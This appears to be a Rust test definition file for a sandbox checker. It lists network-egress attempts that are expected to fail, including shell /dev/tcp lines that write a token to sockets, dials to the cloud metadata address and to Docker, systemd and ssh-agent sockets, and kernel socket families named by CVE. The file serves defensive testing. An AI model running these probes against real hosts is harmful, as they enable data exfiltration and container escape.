//! Out of an empty network namespace: by address, by family, by path, by name.

use super::{ABSENT, FILTERED, NOTHING, calls, native, script};
use crate::attempt::Arg::{
    AbstractCanary, Bytes, Inet, Inet6, Int, Result, TcpCanary, Text, Token, UdpCanary, Unix, Zeros,
};
use crate::attempt::{Attempt, Control, Group, Needs, Steps, Way, Word};
use crate::canaries::{ABSTRACT_LEN, TOKEN_LEN};
use crate::target::Runtime::{Node, Python, Shell};

const fn egress(id: &'static str, tries: &'static str, control: Control, ways: &'static [Way]) -> Attempt {
    Attempt { id, group: Group::Egress, tries, control, ways, needs: Needs::Nothing }
}

/// To hosts of others, which is not tried where nothing is in the way.
const fn outside(id: &'static str, tries: &'static str, control: Control, ways: &'static [Way]) -> Attempt {
    Attempt { needs: Needs::OwnNetwork, ..egress(id, tries, control, ways) }
}

const STREAM: i64 = libc::SOCK_STREAM as i64;
const DATAGRAM: i64 = libc::SOCK_DGRAM as i64;
const RAW: i64 = libc::SOCK_RAW as i64;
const INET: i64 = libc::AF_INET as i64;
const INET6: i64 = libc::AF_INET6 as i64;
const UNIX: i64 = libc::AF_UNIX as i64;
/// To be taken for ESP in UDP (the kernel's uapi/linux/udp.h).
const UDP_ENCAP: i64 = 100;
const NETLINK: i64 = libc::AF_NETLINK as i64;

/// No route leads there.
const UNROUTABLE: &[&str] = &["ENETUNREACH"];

/// Nobody listens there on the sandbox's own loopback.
const NOBODY: &[&str] = &["ECONNREFUSED"];

/// Ordinary sockets open.
const SOCKETS: Control = Control::Sockets(
    calls!(
        SYS_socket(Int(INET), Int(STREAM), NOTHING);
        SYS_socket(Int(INET), Int(DATAGRAM), NOTHING);
        SYS_socket(Int(UNIX), Int(STREAM), NOTHING)
    ),
    TCP,
);

const SOCKETS6: Control = Control::Sockets(calls!(SYS_socket(Int(INET6), Int(STREAM), NOTHING)), TCP);

/// What the lower tier has of sockets.
pub const TCP: Steps = calls!(SYS_socket(Int(INET), Int(STREAM), NOTHING));

/// RTM_GETLINK as a dump (rtnetlink(7)): how getifaddrs(3) asks.
const DUMP: &[u8] = &[20, 0, 0, 0, 18, 0, 1, 3, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];

/// RTM_DELADDR with acknowledgement, of an address that is not there: whoever may, hears that it is not.
const DELETE_ADDRESS: &[u8] =
    &[32, 0, 0, 0, 21, 0, 5, 0, 1, 0, 0, 0, 0, 0, 0, 0, 2, 32, 0, 0, 1, 0, 0, 0, 8, 0, 2, 0, 10, 99, 99, 99];

/// Interfaces can be listed, where the target's profile lets them be.
const ROUTES: Control = Control::Routes(
    calls!(
        SYS_socket(Int(NETLINK), Int(RAW), NOTHING);
        SYS_sendto(Result(0), Bytes(DUMP), Int(20), NOTHING, NOTHING, NOTHING);
        SYS_recvfrom(Result(0), Zeros(4096), Int(4096), NOTHING, NOTHING, NOTHING)
    ),
    calls!(SYS_socket(Int(UNIX), Int(STREAM), NOTHING)),
    TCP,
);

macro_rules! dial {
    ($family:expr, $address:expr, $length:expr) => {
        calls!(
            SYS_socket(Int($family), Int(STREAM), NOTHING);
            SYS_connect(Result(0), $address, Int($length));
            SYS_write(Result(0), Token, Int(TOKEN_LEN))
        )
    };
}

macro_rules! send {
    ($address:expr) => {
        calls!(
            SYS_socket(Int(INET), Int(DATAGRAM), NOTHING);
            SYS_connect(Result(0), $address, Int(16));
            SYS_write(Result(0), Token, Int(TOKEN_LEN));
            // What nobody took is told to the next call (udp(7)).
            SYS_recvfrom(Result(0), Zeros(16), Int(16), Int(libc::MSG_DONTWAIT as i64), NOTHING, NOTHING)
        )
    };
}

macro_rules! socket {
    ($family:expr, $kind:expr, $protocol:expr) => {
        native(calls!(SYS_socket(Int($family), Int($kind), Int($protocol))), FILTERED)
    };
}

macro_rules! path {
    ($id:literal, $tries:literal, $path:literal) => {
        egress($id, $tries, SOCKETS, &[native(dial!(UNIX, Unix($path), 110), ABSENT)])
    };
}

macro_rules! inet6 {
    ($id:literal, $tries:literal, $address:expr, $expect:expr) => {
        outside($id, $tries, SOCKETS6, &[native(dial!(INET6, Inet6($address, 443), 28), $expect)])
    };
}

pub const ATTEMPTS: &[Attempt] = &[
    outside(
        "tcp-direct",
        "TCP to an address in the internet, past the proxy",
        Control::Proxy,
        &[
            native(dial!(INET, Inet([1, 1, 1, 1], 443), 16), UNROUTABLE),
            script(Shell, "exec 4<>/dev/tcp/1.1.1.1/443", UNROUTABLE),
            script(Python, "dial(('1.1.1.1', 443))", UNROUTABLE),
            script(Node, "await dial({host: '1.1.1.1', port: 443})", UNROUTABLE),
        ],
    ),
    egress(
        "tcp-host-loopback",
        "TCP to a listener on the host's loopback",
        Control::Proxy,
        &[
            native(dial!(INET, TcpCanary, 16), NOBODY),
            script(Shell, "exec 4<>/dev/tcp/127.0.0.1/$TCP && printf %s \"$TOKEN\" >&4", NOBODY),
            script(Python, "dial(('127.0.0.1', TCP))", NOBODY),
            script(Node, "await dial({host: '127.0.0.1', port: TCP})", NOBODY),
        ],
    ),
    outside(
        "udp-dns",
        "UDP to a name server in the internet",
        Control::Proxy,
        &[
            native(send!(Inet([8, 8, 8, 8], 53)), UNROUTABLE),
            script(Shell, "exec 4<>/dev/udp/8.8.8.8/53 && printf %s \"$TOKEN\" >&4", UNROUTABLE),
            script(Python, "datagram(('8.8.8.8', 53))", UNROUTABLE),
            script(Node, "await datagram('8.8.8.8', 53)", UNROUTABLE),
        ],
    ),
    egress(
        "udp-host-loopback",
        "UDP to a socket on the host's loopback",
        SOCKETS,
        &[native(send!(UdpCanary), NOBODY), script(Python, "datagram(('127.0.0.1', UDP))", NOBODY)],
    ),
    outside(
        "name-lookup",
        "the address of a host name",
        Control::Proxy,
        &[
            script(Python, "socket.getaddrinfo('example.com', 443)", &["gaierror"]),
            script(Node, "await lookup('example.com')", &["ENOTFOUND"]),
        ],
    ),
    inet6!(
        "ipv6-global",
        "an IPv6 address in the internet",
        [0x26, 0x06, 0x47, 0, 0x47, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x11, 0x11],
        UNROUTABLE
    ),
    inet6!(
        "ipv6-mapped",
        "an IPv4 address in IPv6's clothes (::ffff:1.1.1.1)",
        [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 1, 1, 1, 1],
        UNROUTABLE
    ),
    inet6!(
        "ipv6-nat64",
        "an IPv4 address behind a translator (64:ff9b::1.1.1.1)",
        [0, 0x64, 0xff, 0x9b, 0, 0, 0, 0, 0, 0, 0, 0, 1, 1, 1, 1],
        UNROUTABLE
    ),
    inet6!(
        "ipv6-6to4",
        "an IPv4 address over a relay (2002:101:101::1)",
        [0x20, 0x02, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1],
        UNROUTABLE
    ),
    inet6!(
        "ipv6-link-local",
        "a link-local IPv6 address without a link (fe80::1)",
        [0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1],
        // Without a scope (ipv6(7)).
        &["EINVAL"]
    ),
    outside(
        "metadata-service",
        "the cloud's metadata at 169.254.169.254",
        Control::Proxy,
        &[
            native(dial!(INET, Inet([169, 254, 169, 254], 80), 16), UNROUTABLE),
            script(Python, "dial(('169.254.169.254', 80))", UNROUTABLE),
        ],
    ),
    outside(
        "private-network",
        "a host of the private network (192.168.0.1)",
        SOCKETS,
        &[native(dial!(INET, Inet([192, 168, 0, 1], 80), 16), UNROUTABLE)],
    ),
    egress(
        "interface-address",
        "a change of the interfaces' addresses, by netlink",
        ROUTES,
        &[native(Steps::Netlink(DELETE_ADDRESS), &["EPERM"])],
    ),
    egress(
        "abstract-host-socket",
        "an abstract Unix socket of the host",
        SOCKETS,
        &[
            native(dial!(UNIX, AbstractCanary, ABSTRACT_LEN), NOBODY),
            script(Python, "dial('\\0' + ABSTRACT, socket.AF_UNIX)", NOBODY),
        ],
    ),
    path!("docker-socket", "Docker's socket", "/var/run/docker.sock"),
    path!("containerd-socket", "containerd's socket", "/run/containerd/containerd.sock"),
    path!("podman-socket", "Podman's socket", "/run/podman/podman.sock"),
    path!("dbus-socket", "the host's D-Bus", "/run/dbus/system_bus_socket"),
    path!("systemd-socket", "systemd's private socket", "/run/systemd/private"),
    path!("ssh-agent-socket", "a user's ssh-agent", "/run/user/1000/openssh_agent"),
    path!("snapd-socket", "snapd's socket", "/run/snapd.socket"),
    egress("raw-icmp", "a raw ICMP socket", SOCKETS, &[socket!(INET, RAW, libc::IPPROTO_ICMP as i64)]),
    egress("raw-tcp", "a raw socket for packets of one's own making", SOCKETS, &[socket!(INET, RAW, 255)]),
    egress(
        "ping-socket",
        "an ICMP datagram socket",
        SOCKETS,
        &[socket!(INET, DATAGRAM, libc::IPPROTO_ICMP as i64)],
    ),
    egress("packet-socket", "a packet socket", SOCKETS, &[socket!(libc::AF_PACKET as i64, RAW, 0)]),
    egress("vsock", "a socket to the hypervisor", SOCKETS, &[socket!(libc::AF_VSOCK as i64, STREAM, 0)]),
    egress(
        "crypto-socket",
        "the kernel's ciphers by a socket (AF_ALG; Copy Fail, CVE-2026-31431)",
        SOCKETS,
        &[socket!(libc::AF_ALG as i64, libc::SOCK_SEQPACKET as i64, 0)],
    ),
    egress("sctp", "an SCTP socket", SOCKETS, &[socket!(INET, STREAM, libc::IPPROTO_SCTP as i64)]),
    egress("mptcp", "a multipath TCP socket", SOCKETS, &[socket!(INET, STREAM, libc::IPPROTO_MPTCP as i64)]),
    egress("udplite", "a UDP-Lite socket", SOCKETS, &[socket!(INET, DATAGRAM, libc::IPPROTO_UDPLITE as i64)]),
    egress(
        "rxrpc",
        "a socket of RxRPC (Dirty Frag, CVE-2026-43500)",
        SOCKETS,
        &[socket!(libc::AF_RXRPC as i64, DATAGRAM, INET)],
    ),
    egress(
        "key-socket",
        "the keys of IPsec by a socket (AF_KEY)",
        SOCKETS,
        &[socket!(libc::AF_KEY as i64, RAW, 2)],
    ),
    egress(
        "tcp-upper-layer",
        "TLS in the kernel under a TCP socket, or ESP (CVE-2026-46300)",
        Control::Steps(calls!(
            SYS_socket(Int(INET), Int(STREAM), NOTHING);
            SYS_setsockopt(Result(0), Int(libc::IPPROTO_TCP as i64), Int(libc::TCP_NODELAY as i64), Bytes(&[1, 0, 0, 0]), Int(4))
        )),
        &[native(
            calls!(
                SYS_socket(Int(INET), Int(STREAM), NOTHING);
                SYS_setsockopt(Result(0), Int(libc::IPPROTO_TCP as i64), Int(libc::TCP_ULP as i64), Text("tls"), Int(3))
            ),
            FILTERED,
        )],
    ),
    egress(
        "esp-in-udp",
        "IPsec under a UDP socket (Dirty Frag, CVE-2026-43284)",
        SOCKETS,
        &[native(
            calls!(
                SYS_socket(Int(INET), Int(DATAGRAM), NOTHING);
                SYS_setsockopt(Result(0), Int(libc::IPPROTO_UDP as i64), Int(UDP_ENCAP), Bytes(&[2, 0, 0, 0]), Int(4))
            ),
            FILTERED,
        )],
    ),
    egress("netlink-ipsec", "IPsec by netlink", ROUTES, &[socket!(NETLINK, RAW, libc::NETLINK_XFRM as i64)]),
    egress(
        "netlink-events",
        "the kernel's device events by netlink",
        ROUTES,
        &[socket!(NETLINK, RAW, libc::NETLINK_KOBJECT_UEVENT as i64)],
    ),
    egress(
        "netlink-generic",
        "two hundred parts of the kernel by generic netlink",
        ROUTES,
        &[socket!(NETLINK, RAW, libc::NETLINK_GENERIC as i64)],
    ),
    egress(
        "netlink-audit",
        "the kernel's audit by netlink",
        ROUTES,
        &[socket!(NETLINK, RAW, libc::NETLINK_AUDIT as i64)],
    ),
    egress(
        "netlink-netfilter",
        "the packet filter by netlink",
        ROUTES,
        &[socket!(NETLINK, RAW, libc::NETLINK_NETFILTER as i64)],
    ),
    egress(
        "socket-families",
        "a socket of every other family (Bluetooth, CAN, TIPC, RDS, XDP, KCM, ...)",
        SOCKETS,
        &[native(
            Steps::Verb(&[
                Word::Text("families"),
                Word::Text("1"),
                Word::Text("2"),
                Word::Text("10"),
                Word::Text("16"),
            ]),
            FILTERED,
        )],
    ),
    egress(
        "socketpair-families",
        "a pair of sockets of another family than Unix",
        Control::Steps(calls!(SYS_socketpair(Int(UNIX), Int(STREAM), NOTHING, Zeros(8)))),
        &[native(
            calls!(SYS_socketpair(Int(libc::AF_TIPC as i64), Int(STREAM), NOTHING, Zeros(8))),
            FILTERED,
        )],
    ),
];
